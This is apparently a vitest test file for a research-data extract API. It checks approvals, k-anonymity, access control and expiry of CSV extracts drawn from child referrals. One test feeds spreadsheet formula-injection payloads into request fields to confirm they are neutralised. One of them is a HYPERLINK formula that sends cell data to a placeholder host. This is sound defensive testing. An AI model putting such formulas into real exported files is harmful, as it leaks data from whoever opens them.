import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { sql } from 'kysely';
import { CURRENT_TAXONOMY, type ExtractView, type Page } from '@tiaki/domain';
import { buildTestApp, createTestContext, DRIVERS, type TestContext } from '../../../test/harness.ts';
import { CaseWorld, type Person } from '../../../test/cases.ts';
import { JOB_HANDLERS } from '../jobs/handlers.ts';
import { enqueue, JobWorker } from '../jobs/queue.ts';

const REGIONS = ['02', '02', '09', '13'];
const GENDERS = CURRENT_TAXONOMY.genders.slice(0, 2).map((g) => g.code);
const NAMES = ['Aroha', 'Mere', 'Hemi', 'Wiremu', 'Sione'];

const ethics = {
  committee: 'Health and Disability Ethics Committee',
  reference: 'HDEC 2026/123',
  approvedOn: '2026-06-01',
};
const request = (variables: string[], extra: Record<string, unknown> = {}) => ({
  purpose: 'How long children wait for a reasonable-grounds decision, by region.',
  variables,
  from: '2026-07-01',
  to: '2026-07-31',
  ethicsApproval: ethics,
  ...extra,
});

interface ParsedCsv {
  comments: string[];
  header: string[];
  rows: Record<string, string>[];
}

/** The extract CSV: comment lines, then a header and plain (unquoted) values. */
function parseCsv(text: string): ParsedCsv {
  const lines = text.split('\r\n').filter((l) => l !== '');
  const comments = lines.filter((l) => l.startsWith('# '));
  const [headerLine = '', ...body] = lines.filter((l) => !l.startsWith('# '));
  const header = headerLine.split(',');
  const rows = body.map((line) => {
    const values = line.split(',');
    return Object.fromEntries(header.map((h, i) => [h, values[i] ?? '']));
  });
  return { comments, header, rows };
}

function smallestClass(rows: Record<string, string>[], quasi: string[]): number {
  const sizes = new Map<string, number>();
  for (const row of rows) {
    const key = JSON.stringify(quasi.map((q) => row[q]));
    sizes.set(key, (sizes.get(key) ?? 0) + 1);
  }
  return Math.min(...sizes.values());
}

describe.each(DRIVERS)('research extracts on %s', (driver) => {
  let ctx: TestContext;
  let app: FastifyInstance;
  let world: CaseWorld;
  let analyst: Person;
  let otherAnalyst: Person;
  let steward: Person;
  let maori: Person;

  const ask = async (by: Person, body: unknown) => {
    const res = await by.client.post('/api/extracts', body);
    expect(res.statusCode, res.body).toBe(201);
    return res.json<{ id: string }>().id;
  };
  const view = async (by: Person, id: string) => {
    const res = await by.client.get(`/api/extracts/${id}`);
    expect(res.statusCode, res.body).toBe(200);
    return res.json<ExtractView>();
  };
  const auditActions = async (id: string) =>
    (
      await ctx.db
        .selectFrom('audit_event')
        .select(['action', 'details'])
        .where('subject_type', '=', 'extract')
        .where('subject_id', '=', id)
        .orderBy('id')
        .execute()
    ).map((e) => e.action);

  beforeAll(async () => {
    ctx = await createTestContext(driver, { TIAKI_TODAY: '2026-07-03' });
    app = await buildTestApp(ctx);
    world = new CaseWorld(ctx, app);
    const level1 = CURRENT_TAXONOMY.ethnicities.filter((e) => e.level === 1).map((e) => e.code);
    for (let i = 0; i < 30; i++) {
      await world.submitReferral(
        { concern: { date: '2026-07-01', region: REGIONS[i % REGIONS.length] ?? '02' } },
        {
          givenNames: `${NAMES[i % NAMES.length] ?? 'Kahu'}${i}`,
          familyName: 'Extractchild',
          aliases: [],
          dateOfBirth: `${2009 + (i % 4)}-0${(i % 9) + 1}-1${i % 10}`,
          gender: GENDERS[i % GENDERS.length] ?? 'female',
          ethnicities: [i % 3 === 0 ? '2' : (level1[0] ?? '1')],
        },
      );
    }
    analyst = await world.person('analyst', ['analyst'], 'research', 'other');
    otherAnalyst = await world.person('analyst-2', ['analyst'], 'research', 'other');
    steward = await world.person('steward', ['data_steward'], 'research', 'other');
    maori = await world.person('maori', ['maori_data_governance'], 'governance', 'other');
  }, 360_000);
  afterAll(async () => {
    await app.close();
    await ctx.close();
  });

  it('produces a k-anonymous extract after the data steward approves, for its requester only', async () => {
    const variables = [
      'received_month',
      'region',
      'age_band',
      'gender',
      'manifestations',
      'urgent',
      'service_needs',
    ];
    const id = await ask(analyst, request(variables));
    const before = await view(analyst, id);
    expect(before).toMatchObject({
      status: 'awaiting_approvals',
      approvalsRequired: ['steward'],
      file: null,
    });
    expect((await analyst.client.post(`/api/extracts/${id}/approve`)).statusCode).toBe(403);
    expect((await analyst.client.get(`/api/extracts/${id}/download`)).statusCode).toBe(409);

    const approved = await steward.client.post(`/api/extracts/${id}/approve`, { note: 'Fine.' });
    expect(approved.statusCode, approved.body).toBe(200);
    const after = await view(analyst, id);
    expect(after.status).toBe('produced');
    expect(after.approvals).toMatchObject([{ kind: 'steward', approvedBy: { id: steward.user.id } }]);
    expect(after.file).toMatchObject({ k: 11, available: true, expiresOn: '2026-08-02' });

    const res = await analyst.client.get(`/api/extracts/${id}/download`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.body).not.toMatch(/Extractchild|Aroha|narrative|2009-|2010-|2011-/i);
    const csv = parseCsv(res.body);
    // The only id is the extract's own, in the header block; rows carry none.
    const data = res.body
      .split('\r\n')
      .filter((l) => !l.startsWith('# '))
      .join('\n');
    expect(data).not.toMatch(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-/);
    expect(csv.comments.join('\n')).toMatch(/Purpose: How long children wait/);
    expect(csv.comments.join('\n')).toMatch(/k = 11/);
    expect(csv.comments.join('\n')).toMatch(/Generalisation: received_month = /);
    expect(csv.comments.join('\n')).toMatch(/Approved by the data steward/);
    expect(csv.comments.join('\n')).toMatch(/Expires: 2026-08-02/);
    expect(csv.header).toEqual(['row', ...variables]);
    expect(csv.rows.length).toBe(after.file?.rowCount);
    expect(csv.rows.length + (after.file?.rowsSuppressed ?? 0)).toBe(30);
    expect(csv.rows.length).toBeGreaterThanOrEqual(11);
    expect(
      smallestClass(csv.rows, ['received_month', 'region', 'age_band', 'gender']),
    ).toBeGreaterThanOrEqual(11);
    expect(new Set(csv.rows.map((r) => r.row)).size).toBe(csv.rows.length);

    // Only the requester downloads; the steward (who may see the request) may not.
    expect((await steward.client.get(`/api/extracts/${id}/download`)).statusCode).toBe(403);
    expect(await auditActions(id)).toEqual([
      'extract.requested',
      'extract.approved',
      'extract.produced',
      'extract.downloaded',
    ]);
  });

  it('needs the Māori data governance group as well when the extract holds ethnicity', async () => {
    const id = await ask(analyst, request(['region', 'gender', 'ethnicities', 'urgent']));
    expect((await view(analyst, id)).approvalsRequired).toEqual(['steward', 'maori']);
    expect((await maori.client.post(`/api/extracts/${id}/approve`)).statusCode).toBe(403);
    expect((await steward.client.post(`/api/extracts/${id}/approve`)).statusCode).toBe(200);
    expect((await view(analyst, id)).status).toBe('awaiting_approvals');
    expect((await steward.client.post(`/api/extracts/${id}/approve`)).statusCode).toBe(409);
    const res = await maori.client.post(`/api/extracts/${id}/approve-maori`, {
      note: 'Approved by the rōpū.',
    });
    expect(res.statusCode, res.body).toBe(200);
    const produced = await view(analyst, id);
    expect(produced.status).toBe('produced');
    const csv = parseCsv((await analyst.client.get(`/api/extracts/${id}/download`)).body);
    expect(csv.comments.join('\n')).toMatch(/Approved by the Māori data governance group/);
    expect(smallestClass(csv.rows, ['region', 'gender', 'ethnicities'])).toBeGreaterThanOrEqual(11);
    expect(await auditActions(id)).toContain('extract.approved_maori');
  });

  it('writes header lines a spreadsheet cannot run as formulas, whatever the requester typed', async () => {
    const hostile = ['=HYPERLINK("http://example.invalid/?x="&A1,"Open")', '+1', '-1+1', '@SUM(A1:A9)'];
    const id = await ask(
      analyst,
      request(['region', 'urgent'], {
        purpose: `Waiting times, ${hostile.join(', ')}\n${hostile[0]}`,
        ethicsApproval: { ...ethics, committee: `${hostile[3]}, ${hostile[1]}`, reference: hostile[2] },
      }),
    );
    expect((await steward.client.post(`/api/extracts/${id}/approve`)).statusCode).toBe(200);
    const res = await analyst.client.get(`/api/extracts/${id}/download`);
    expect(res.statusCode, res.body).toBe(200);
    const csv = parseCsv(res.body);
    expect(csv.comments.join('\n')).toMatch(/^# Purpose: Waiting times,/m);
    // A spreadsheet splits a comment line at commas too: no piece may start a formula or a quoted cell.
    const pieces = csv.comments.flatMap((line) => line.split(','));
    expect(pieces.filter((piece) => /^\s*[=+\-@"]|^[\t\r]/.test(piece))).toEqual([]);
    // Each value is still there for a reader, as text.
    for (const value of hostile)
      expect(pieces.some((piece) => piece.startsWith(`' ${value.split(',')[0]}`))).toBe(true);
    expect(csv.header).toEqual(['row', 'region', 'urgent']);
  });

  it('refuses approval of a request without ethnicity or iwi by the Māori governance route', async () => {
    const id = await ask(analyst, request(['urgent']));
    expect((await maori.client.post(`/api/extracts/${id}/approve-maori`)).statusCode).toBe(409);
  });

  it('keeps requests to their requester and approvers, and never lets anyone approve their own', async () => {
    const id = await ask(analyst, request(['region']));
    expect((await otherAnalyst.client.get(`/api/extracts/${id}`)).statusCode).toBe(404);
    expect((await otherAnalyst.client.get(`/api/extracts/${id}/download`)).statusCode).toBe(404);
    const theirs = (await otherAnalyst.client.get('/api/extracts?pageSize=100')).json<Page<ExtractView>>();
    expect(theirs.items.map((e) => e.id)).not.toContain(id);
    const all = (await steward.client.get('/api/extracts?pageSize=100')).json<Page<ExtractView>>();
    expect(all.items.map((e) => e.id)).toContain(id);

    const caseworker = await world.caseworker();
    expect((await caseworker.client.get('/api/extracts')).statusCode).toBe(403);
    expect((await caseworker.client.get(`/api/extracts/${id}`)).statusCode).toBe(403);
    expect((await caseworker.client.post('/api/extracts', request(['region']))).statusCode).toBe(403);
    expect((await caseworker.client.post(`/api/extracts/${id}/decline`, { reason: 'No.' })).statusCode).toBe(
      403,
    );

    const both = await world.person('analyst-steward', ['analyst', 'data_steward'], 'research', 'other');
    const own = await ask(both, request(['region']));
    const refused = await both.client.post(`/api/extracts/${own}/approve`);
    expect(refused.statusCode).toBe(403);
    expect(refused.json<{ code: string }>().code).toBe('own_request');
    expect((await view(both, own)).status).toBe('awaiting_approvals');
  });

  it('pages, sorts and filters the extracts list on the server, each person seeing only theirs (issue 14)', async () => {
    const pager = await world.person('analyst-pager', ['analyst'], 'research', 'other');
    const purposes = ['Alpha pagecheck: waits', 'Beta pagecheck: regions', 'Gamma pagecheck: ages'];
    const ids: string[] = [];
    for (const purpose of purposes) ids.push(await ask(pager, request(['region'], { purpose })));
    const declined = ids[1] ?? '';
    expect(
      (await steward.client.post(`/api/extracts/${declined}/decline`, { reason: 'Too broad.' })).statusCode,
    ).toBe(200);
    const list = async (by: Person, query: string) => {
      const res = await by.client.get(`/api/extracts?${query}`);
      expect(res.statusCode, res.body).toBe(200);
      return res.json<Page<ExtractView>>();
    };
    // Their own, newest first, two to a page, with the whole count.
    const first = await list(pager, 'pageSize=2');
    expect(first).toMatchObject({ total: 3, page: 1, pageSize: 2 });
    expect(first.items.map((e) => e.purpose)).toEqual([purposes[2], purposes[1]]);
    expect((await list(pager, 'pageSize=2&page=2')).items.map((e) => e.purpose)).toEqual([purposes[0]]);
    expect((await list(pager, 'sort=purpose&dir=asc')).items.map((e) => e.purpose)).toEqual(purposes);
    expect((await list(pager, 'status=declined')).items.map((e) => e.id)).toEqual([declined]);
    // Approvers see everyone's: the text finds these among them.
    const found = await list(steward, 'q=pagecheck&status=awaiting_approvals&sort=purpose');
    expect(found.items.map((e) => e.purpose)).toEqual([purposes[0], purposes[2]]);
    // Waiting for an approval the person gives: the steward's, not the Māori governance group's
    // (none of these holds ethnicity or iwi); nothing waits for the requester.
    const waiting = await list(steward, 'waiting=true&q=pagecheck&sort=purpose');
    expect(waiting.items.map((e) => e.purpose)).toEqual([purposes[0], purposes[2]]);
    expect((await list(maori, 'waiting=true&q=pagecheck')).total).toBe(0);
    expect((await list(pager, 'waiting=true')).total).toBe(0);
    expect((await list(pager, 'mine=true')).total).toBe(3);
    // Another analyst finds none of them.
    expect((await list(otherAnalyst, 'q=pagecheck')).total).toBe(0);
    // Nonsense is refused in words.
    const bad = await pager.client.get('/api/extracts?sort=secret&status=lost');
    expect(bad.statusCode).toBe(400);
    expect(bad.body).toContain('Sort by one of');
  });

  it('stops a declined request', async () => {
    const id = await ask(analyst, request(['region', 'iwi']));
    const declined = await maori.client.post(`/api/extracts/${id}/decline`, {
      reason: 'Talk to the iwi first.',
    });
    expect(declined.statusCode, declined.body).toBe(200);
    const v = await view(analyst, id);
    expect(v.status).toBe('declined');
    expect(v.declined).toMatchObject({ by: { id: maori.user.id }, reason: 'Talk to the iwi first.' });
    expect((await steward.client.post(`/api/extracts/${id}/approve`)).statusCode).toBe(409);
    expect((await analyst.client.get(`/api/extracts/${id}/download`)).statusCode).toBe(409);
    const audit = await ctx.db
      .selectFrom('audit_event')
      .select('details')
      .where('subject_id', '=', id)
      .where('action', '=', 'extract.declined')
      .executeTakeFirstOrThrow();
    expect(JSON.stringify(audit.details)).not.toContain('iwi first');
  });

  it('answers 410 Gone once an extract has expired, and deletes the stored file', async () => {
    const id = await ask(analyst, request(['region', 'urgent']));
    expect((await steward.client.post(`/api/extracts/${id}/approve`)).statusCode).toBe(200);
    expect((await analyst.client.get(`/api/extracts/${id}/download`)).statusCode).toBe(200);
    await sql`UPDATE extract_file SET expires_on = '2026-07-02' WHERE id = ${id}`.execute(ctx.db);
    const gone = await analyst.client.get(`/api/extracts/${id}/download`);
    expect(gone.statusCode).toBe(410);
    expect(gone.json<{ message: string }>().message).toMatch(/expired on 2026-07-02.*deleted/);
    const stored = await sql<{ content_enc: string | null; cleared_at: Date | null }>`
      SELECT content_enc, cleared_at FROM extract_file WHERE id = ${id}`.execute(ctx.db);
    expect(stored.rows[0]).toMatchObject({ content_enc: null });
    expect(stored.rows[0]?.cleared_at).not.toBeNull();
    expect((await view(analyst, id)).file).toMatchObject({ available: false });
    expect((await view(analyst, id)).status).toBe('expired');
    expect(await auditActions(id)).toContain('extract.expired');
  });

  it('clears an expired extract in the background even if nobody opens it again', async () => {
    const id = await ask(analyst, request(['region', 'urgent']));
    expect((await steward.client.post(`/api/extracts/${id}/approve`)).statusCode).toBe(200);
    await sql`UPDATE extract_file SET expires_on = '2026-07-02' WHERE id = ${id}`.execute(ctx.db);
    await enqueue(ctx.db, 'extracts.expire');
    await new JobWorker(ctx, JOB_HANDLERS).runDue();
    const stored = await sql<{ content_enc: string | null }>`
      SELECT content_enc FROM extract_file WHERE id = ${id}`.execute(ctx.db);
    expect(stored.rows[0]).toEqual({ content_enc: null });
    expect(await auditActions(id)).toContain('extract.expired');
  });

  it('produces an approved extract in the background when producing it straight away failed', async () => {
    const id = await ask(analyst, request(['region', 'urgent']));
    // As if the server stopped between recording the approval and producing the extract.
    await sql`INSERT INTO extract_approval (extract_id, kind, approved_by_user_id)
      VALUES (${id}, 'steward', ${steward.user.id})`.execute(ctx.db);
    await enqueue(ctx.db, 'extracts.produce', { id });
    expect((await view(analyst, id)).status).toBe('awaiting_approvals');
    await new JobWorker(ctx, JOB_HANDLERS).runDue();
    expect((await view(analyst, id)).status).toBe('produced');
    expect((await analyst.client.get(`/api/extracts/${id}/download`)).statusCode).toBe(200);
    // The job queued with a real approval finds the work done and produces nothing twice.
    const again = await ask(analyst, request(['region']));
    expect((await steward.client.post(`/api/extracts/${again}/approve`)).statusCode).toBe(200);
    await new JobWorker(ctx, JOB_HANDLERS).runDue();
    expect((await auditActions(again)).filter((a) => a === 'extract.produced')).toHaveLength(1);
  });

  it('refuses bad requests with the fields at fault, and stores nothing', async () => {
    const count = async () =>
      (await sql<{ n: number }>`SELECT count(*)::int AS n FROM extract_request`.execute(ctx.db)).rows[0]?.n;
    const before = await count();
    const cases: [unknown, string][] = [
      [request(['region'], { from: '2026-07-31', to: '2026-07-01' }), 'to'],
      [request(['region', 'family_name']), 'variables.1'],
      [{ ...request(['region']), ethicsApproval: undefined }, 'ethicsApproval'],
      [request(['region'], { ethicsApproval: { committee: 'HDEC', reference: '' } }), 'ethicsApproval'],
      [request([]), 'variables'],
    ];
    for (const [body, field] of cases) {
      const res = await analyst.client.post('/api/extracts', body);
      expect(res.statusCode, JSON.stringify(body)).toBe(400);
      const fields = res.json<{ fields: { path: string }[] }>().fields.map((f) => f.path);
      expect(
        fields.some((p) => p.startsWith(field)),
        fields.join(),
      ).toBe(true);
    }
    expect(await count()).toBe(before);
  });
});
